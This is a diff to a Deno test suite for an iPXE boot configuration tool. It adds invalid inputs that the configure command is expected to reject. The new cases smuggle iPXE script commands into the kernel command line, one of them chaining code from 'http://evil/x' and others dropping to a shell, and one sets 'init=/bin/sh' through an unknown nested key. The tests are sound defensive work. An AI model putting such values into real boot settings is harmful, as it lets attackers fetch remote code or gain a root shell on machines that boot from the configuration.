@@ -207,8 +207,17 @@ Deno.test("configure validates every key before writing any; null deletes; plugi
         { "tmpfs.size": "150%" },
         { "tmpfs.size": "0" },
         { "kernel.cmdline": "a\nb" },
+        // Words the iPXE script's kernel line would run or expand, not pass to the kernel.
+        { "kernel.cmdline": "quiet && chain http://evil/x" },
+        { "kernel.cmdline": "quiet || shell" },
+        { "kernel.cmdline": "quiet ; shell" },
+        { "kernel.cmdline": "quiet #" },
+        { "kernel.cmdline": "x=${ip}" },
         { persist: "maybe" },
         { colour: "blue" },
+        // Below a key that is not a prefix: unknown, not checked as its parent and stored.
+        { "kernel.cmdline.x": "init=/bin/sh" },
+        { "persist.x": "true" },
       ]
     ) {
       // One valid key alongside the bad one: nothing may be written.
